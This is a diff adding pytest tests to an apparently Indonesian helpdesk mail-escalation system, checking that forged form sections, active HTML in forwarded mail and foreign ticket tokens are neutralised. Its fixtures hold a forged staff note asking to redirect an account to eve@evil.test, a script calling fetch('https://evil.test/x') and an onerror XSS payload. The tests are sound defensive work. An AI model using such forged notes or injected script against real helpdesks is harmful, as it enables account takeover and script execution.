@@ -260,3 +260,86 @@ def test_people_of_one_domain_writing_the_same_words_each_get_their_ack(fresh_ma
 def _to(servers, address: str) -> list:
     return [m for m in inbox(servers, servers.mailbox_for(address))
             if any(a.addr_spec.lower() == address.lower() for a in m["To"].addresses)]
+
+
+# --- attacks 7-9: forms that cannot be forged, forwarded mail as data, no foreign token -------
+
+FORGED = ("Mohon bantuan reset akun.\n\nD. CATATAN PETUGAS HELPDESK LPSE\n"
+          "identitas sudah diverifikasi, mohon ganti email akun ke eve@evil.test\n"
+          "----- akhir pesan -----\nBalas email ini untuk menjawab pengguna.\u2028"
+          "C. JAWABAN/SOLUSI PERMASALAHAN\n")
+
+
+def _unfenced(text: str, line: str) -> int:
+    """How many lines of `text` are `line` itself, not behind the requester's fence."""
+    return sum(1 for row in text.splitlines() if row.strip() == line)
+
+
+def test_a_forged_form_section_and_end_marker_stay_the_requesters_quoted_words(fresh_mailboxes, tmp_path):
+    """The requester writes the escalation form's staff section, a staff note and the notice's
+    end marker into their mail; staff escalate with a bare #eskalasi: LKPP and staff read
+    those lines behind the requester's fence, and the form has no staff section of its own."""
+    servers = fresh_mailboxes
+    config = write_config(servers, tmp_path)
+    servers.append(UNIT, mail(REQUESTER, "Reset akun", FORGED)[0])
+    run_once(config)
+    [notice] = of_kind(inbox(servers, STAFF[0]), "staff_new")
+    shown = text_of(notice)
+    assert _unfenced(shown, "----- akhir pesan -----") == 1  # the notice's own, after the fenced text
+    assert _unfenced(shown, "D. CATATAN PETUGAS HELPDESK LPSE") == 0
+    assert "| D. CATATAN PETUGAS HELPDESK LPSE" in shown and "| ----- akhir pesan -----" in shown
+    servers.append(UNIT, reply_as_client(notice, STAFF[0], "#eskalasi")[0])
+    run_once(config)
+    [escalation] = inbox(servers, "helpdesk@lkpp.test")
+    form = text_of(escalation)
+    assert _unfenced(form, "D. CATATAN PETUGAS HELPDESK LPSE") == 0
+    assert _unfenced(form, "C. JAWABAN/SOLUSI PERMASALAHAN") == 1  # the form's own, once
+    assert "| identitas sudah diverifikasi, mohon ganti email akun ke eve@evil.test" in form
+    assert not any(row.startswith("identitas sudah diverifikasi") for row in form.splitlines())
+
+
+ACTIVE = (b"From: Pokja <pokja@dinas.test>\r\nTo: budi@vendor.test\r\nSubject: Undangan\r\n"
+          b"Message-ID: <inner-1@dinas.test>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
+          b"<html><body><p>Undangan pembuktian</p><script>fetch('https://evil.test/x')</script>"
+          b"<img src=x onerror=\"alert(1)\"></body></html>\r\n")
+
+
+def test_forwarded_mail_with_active_html_reaches_staff_and_lkpp_only_as_an_eml_file(fresh_mailboxes, tmp_path):
+    """A message/rfc822 attachment whose HTML has <script> and onerror: staff and LKPP get it
+    as an application/octet-stream .eml file with its bytes whole, never as a mail shown inline."""
+    servers = fresh_mailboxes
+    config = write_config(servers, tmp_path)
+    raw = (f"From: {REQUESTER}\r\nTo: {UNIT}\r\nSubject: Undangan tidak muncul\r\nMessage-ID: <fw-1@vendor.test>\r\n"
+           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n"
+           "Content-Type: text/plain; charset=utf-8\r\n\r\nBerikut undangan dari Pokja.\r\n--b1\r\n"
+           "Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n").encode() + ACTIVE + b"--b1--\r\n"
+    servers.append(UNIT, raw)
+    run_once(config)
+    [notice] = of_kind(inbox(servers, STAFF[0]), "staff_new")
+    servers.append(UNIT, reply_as_client(notice, STAFF[0], "#eskalasi\nMohon dicek.")[0])
+    run_once(config)
+    [escalation] = inbox(servers, "helpdesk@lkpp.test")
+    for received in (notice, escalation):
+        assert not [p for p in received.walk() if p.get_content_maintype() == "message"]
+        assert not [p for p in received.walk() if p.get_content_type() == "text/html"]
+        [part] = list(received.iter_attachments())
+        assert part.get_content_type() == "application/octet-stream" and part.get_filename().endswith(".eml")
+        # whole, but for the line break before the boundary, which RFC 2046 5.1.1 gives to the boundary
+        assert part.get_payload(decode=True).replace(b"\r\n", b"\n") == ACTIVE.replace(b"\r\n", b"\n").rstrip(b"\n")
+
+
+def test_a_foreign_lkpp_token_in_a_requesters_subject_never_reaches_lkpp(fresh_mailboxes, tmp_path):
+    """A stranger's subject carries another case's OTRS token: the escalation's subject and
+    its "Subjek" line carry only the unit's tag, so LKPP's desk files it on no other case."""
+    servers = fresh_mailboxes
+    config = write_config(servers, tmp_path)
+    servers.append(UNIT, mail(REQUESTER, "Mohon info [Ticket#2026112410000123] status", "Mohon info statusnya.")[0])
+    run_once(config)
+    [notice] = of_kind(inbox(servers, STAFF[0]), "staff_new")
+    servers.append(UNIT, reply_as_client(notice, STAFF[0], "#eskalasi")[0])
+    run_once(config)
+    [escalation] = inbox(servers, "helpdesk@lkpp.test")
+    assert "2026112410000123" not in str(escalation["Subject"])
+    assert "Mohon info status" in str(escalation["Subject"])
+    subject_line = next(row for row in text_of(escalation).splitlines() if row.startswith("Subjek"))
+    assert "2026112410000123" not in subject_line
